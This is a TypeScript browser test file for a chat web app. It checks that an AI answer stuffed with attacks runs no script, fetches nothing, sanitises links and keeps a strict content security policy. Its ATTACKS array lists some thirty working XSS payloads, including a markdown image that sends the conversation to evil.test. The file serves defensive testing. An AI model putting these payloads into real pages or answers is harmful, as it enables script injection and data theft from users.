// What a hostile model writes: nothing of it runs, nothing is fetched. The browser's own record of requests is the judge.
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';

import { elsewhere, type Visitor, visit } from '../lib/browser.ts';
import { answered, ask, chooseModel, lastAnswer } from '../lib/chat.ts';
import { openSite, type Site } from '../lib/site.ts';

/** Guide "security" S32–S36. Everything in it that ran or was fetched would reach evil.test or set window.hacked. */
const ATTACKS = [
  '<script>window.hacked = 1</script>',
  '<script src="https://evil.test/x.js"></script>',
  '<img src=x onerror="window.hacked = 2">',
  '<img src="https://evil.test/html.png">',
  '<svg onload="window.hacked = 3"><image href="https://evil.test/svg.png"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=4&gt;">',
  '<iframe src="https://evil.test/frame" srcdoc="<script>parent.hacked = 5</script>"></iframe>',
  '<object data="https://evil.test/o"></object><embed src="https://evil.test/e">',
  '<video src="https://evil.test/v.mp4" autoplay></video><audio src="https://evil.test/a.mp3"></audio>',
  '<style>@import url("https://evil.test/s.css"); body { background: url(https://evil.test/bg.png) }</style>',
  '<link rel="stylesheet" href="https://evil.test/l.css"><link rel="prefetch" href="https://evil.test/p">',
  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/r">',
  '<form action="https://evil.test/form"><input name="q" autofocus onfocus="window.hacked = 6"></form>',
  '<a href="javascript:window.hacked = 7" id="app" name="forms">html link</a>',
  '<details open ontoggle="window.hacked = 8"><summary>x</summary></details>',
  '![pixel](https://evil.test/pixel.png?q=the+whole+conversation)',
  '![ref][pic]',
  '[pic]: https://evil.test/ref.png',
  '[script link](javascript:window.hacked=9)',
  '[spaced](java\tscript:window.hacked=10)',
  '[entity](&#x6a;avascript:window.hacked=11)',
  '[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTEyPC9zY3JpcHQ+)',
  '[![nested](https://evil.test/nested.png)](javascript:window.hacked=13)',
  '<javascript:window.hacked=14>',
  '[own site](/api/auth/logout)',
  'https://evil.test/autolink',
  '[honest](https://evil.test/page)',
  '```html\n<img src="https://evil.test/code.png" onerror="window.hacked = 15">\n```',
  '```mermaid\ngraph TD; A["<img src=https://evil.test/mermaid.png onerror=window.hacked=16>"]-->B\n```',
  '$\\href{javascript:window.hacked=17}{x}$ and $\\includegraphics{https://evil.test/tex.png}$',
  '$$\\htmlStyle{background:url(https://evil.test/style.png)}{x} \\url{https://evil.test/url}$$',
  '$\\def\\a{\\a\\a}\\a$ and $\\rule{1000000em}{1000000em}$',
  '| <img src="https://evil.test/table.png"> |\n| --- |\n| <script>window.hacked = 18</script> |',
  '</div></main><h1 id="question">outside</h1>',
  '\u202Egnp.exe \u200B\u0000 <script>window.hacked = 19</script>',
];

let site: Site;
beforeAll(async () => {
  site = await openSite();
  const pieces = (text: string) => text.match(/[\s\S]{1,23}/g)!;
  await site.addModel('hostile', { words: pieces(ATTACKS.join('\n\n')), reasoning: pieces(ATTACKS.join('\n')) });
  await site.addModel('<img src=x onerror=window.hacked=20>', {});
  await site.addModel('long', { words: ['```js\n', `${'a = "x"; '.repeat(60_000)}`, '\n```'] });
});
afterAll(() => site[Symbol.asyncDispose]());

async function askHostile(visitor: Visitor): Promise<void> {
  await chooseModel(visitor.page, 'hostile');
  await ask(visitor.page, '<img src=x onerror=window.hacked=21>');
  await answered(visitor.page);
  await visitor.page.getByRole('button', { name: /^Thought for/ }).click();
  // Code is coloured and formulas are drawn a moment later.
  await visitor.page.locator('.md .katex').first().waitFor();
  await visitor.page.locator('.md .hl-tag, .md .hl-name').first().waitFor();
}

describe('an answer full of attacks', () => {
  test('runs nothing and fetches nothing', async () => {
    await using visitor = await visit(site.browser, site.url);
    const { page } = visitor;
    await askHostile(visitor);
    await page.waitForTimeout(500);
    expect(elsewhere(visitor)).toEqual([]);
    expect(await page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined();
    expect(visitor.faults).toEqual([]);
    expect(page.url()).toBe(`${site.url}/`);
    expect(
      await page
        .locator('article :is(img, script, iframe, object, embed, video, audio, form, input, link, base, meta)')
        .count(),
    ).toBe(0);
    expect(await lastAnswer(page).innerText()).toContain('window.hacked = 1');
    expect(await page.locator('#app').count()).toBe(1);
  });

  test('has only links that lead away in a tab of their own, and they do', async () => {
    await using visitor = await visit(site.browser, site.url);
    const { page, context } = visitor;
    await askHostile(visitor);
    const links = await page
      .locator('article a')
      .evaluateAll((all) =>
        all.map((a) => [
          new URL((a as HTMLAnchorElement).href).protocol,
          a.getAttribute('rel'),
          a.getAttribute('target'),
        ]),
      );
    expect(links.length).toBeGreaterThan(3);
    for (const link of links) expect(link).toEqual(['https:', 'noopener noreferrer nofollow', '_blank']);
    for (const name of ['script link', 'entity', 'data', 'own site', 'nested']) {
      expect(await page.locator('article a', { hasText: new RegExp(`^${name}$`) }).count()).toBe(0);
    }
    await context.route('https://evil.test/**', (route) => route.fulfill({ body: 'the other site' }));
    const opened = context.waitForEvent('page');
    await page.getByRole('link', { name: 'honest' }).click();
    const other = await opened;
    await other.waitForLoadState();
    expect(await other.evaluate(() => window.opener)).toBeNull();
    expect(await other.evaluate(() => document.referrer)).toBe('');
  });

  test('shows a picture’s place instead of the picture, and goes there only on a click', async () => {
    await using visitor = await visit(site.browser, site.url);
    const { page, context } = visitor;
    await askHostile(visitor);
    const place = page.locator('.md-image', { hasText: 'pixel' });
    expect(await place.innerText()).toContain('Open the image on evil.test');
    expect(elsewhere(visitor)).toEqual([]);
    await context.route('https://evil.test/**', (route) => route.fulfill({ body: 'picture' }));
    const opened = context.waitForEvent('page');
    await place.getByRole('link').click();
    await opened;
    await page.waitForTimeout(200);
    expect(elsewhere(visitor)).toEqual(['https://evil.test/pixel.png?q=the+whole+conversation']);
  });
});

test('a model with a hostile name is only a name', async () => {
  await using visitor = await visit(site.browser, site.url);
  const { page } = visitor;
  await chooseModel(page, '<img src=x onerror=window.hacked=20>');
  await ask(page, 'Hello');
  await answered(page);
  expect(await page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined();
  expect(visitor.faults).toEqual([]);
});

test('a line of half a million characters leaves the page usable', async () => {
  await using visitor = await visit(site.browser, site.url);
  const { page } = visitor;
  await chooseModel(page, 'long');
  await ask(page, 'Hello');
  await answered(page);
  expect((await page.locator('.md pre').textContent())!.length).toBeGreaterThan(500_000);
  await page.getByRole('button', { name: 'New chat' }).click();
  await page.getByRole('heading', { name: 'What would you like to figure out?' }).waitFor();
});

test('the pages cannot be framed, and run no inline script', async () => {
  const response = await fetch(site.url);
  const policy = response.headers.get('content-security-policy')!;
  expect(policy).toContain("script-src 'self'");
  expect(policy).toContain("frame-ancestors 'none'");
  expect(policy).not.toContain('unsafe');
  expect(await response.text()).not.toMatch(/<script(?![^>]*\ssrc=)|\son\w+=|style=/);
});
